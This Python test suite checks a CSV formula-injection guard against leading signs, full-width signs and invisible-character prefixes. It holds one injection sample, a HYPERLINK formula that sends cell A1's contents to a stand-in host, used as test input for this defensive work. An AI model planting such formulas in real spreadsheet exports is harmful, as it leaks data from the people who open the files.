"""The CSV formula guard (issue 17, item 5): a spreadsheet skips leading white space and
invisible characters and reads full-width and small forms of = + - @, so must we."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from gegenlesen.storage.exports.csv import is_formula, safe_cell

SIGNS = "=+-@＝＋－＠﹦﹢﹣﹫"
LEADING = [" ", "\u00a0", "\u200b", "\ufeff", "\n", "\t", "\r", "\u2060", "\u3000", " \u00a0\u200b\ufeff\n"]
PAYLOAD = 'HYPERLINK("http://x.example/?"&A1,"klick")'


@pytest.mark.parametrize("lead", LEADING, ids=[repr(lead) for lead in LEADING])
@pytest.mark.parametrize("sign", list("=+-@"))
def test_a_formula_behind_white_space_or_invisible_characters_is_neutralised(lead, sign):
    cell = lead + sign + PAYLOAD
    assert safe_cell(cell) == "'" + cell


@pytest.mark.parametrize("sign", list("＝＋－＠﹦﹢﹣﹫"))
def test_full_width_and_small_signs_are_neutralised(sign):
    assert safe_cell(sign + PAYLOAD) == "'" + sign + PAYLOAD
    assert safe_cell("\u00a0" + sign + PAYLOAD) == "'\u00a0" + sign + PAYLOAD


@pytest.mark.parametrize("cell", ["\t", "\r", "\tabc", "\rabc"])
def test_a_leading_tab_or_carriage_return_is_neutralised_as_owasp_says(cell):
    assert safe_cell(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["Müller sagte: =", "a = b", " Text", "\u00a0Text", "", "   ", "\u200b", "3 - 2",
                                  "E-Mail", "’=x", "«=x»"])
def test_ordinary_text_is_left_alone(cell):
    assert safe_cell(cell) == cell


invisible = st.sampled_from(LEADING + ["\u200c", "\u200d", "\u2028", "\u2029", "\x0b", "\x0c", "\x85", "\u202f"])


@given(st.lists(invisible, max_size=6).map("".join), st.sampled_from(SIGNS), st.text(max_size=30))
def test_any_invisible_prefix_before_any_sign_is_neutralised(prefix, sign, rest):
    cell = prefix + sign + rest
    assert is_formula(cell)
    assert safe_cell(cell) == "'" + cell


@given(st.text(max_size=40))
def test_a_guarded_cell_round_trips_through_csv_and_starts_safely(text):
    cell = safe_cell(text)
    out = io.StringIO()
    csv.writer(out, lineterminator="\r\n").writerow([cell])
    back = next(csv.reader(io.StringIO(out.getvalue(), newline="")))
    assert back == [cell]
    assert not is_formula(cell) or cell.startswith("'")
    assert cell in (text, "'" + text)
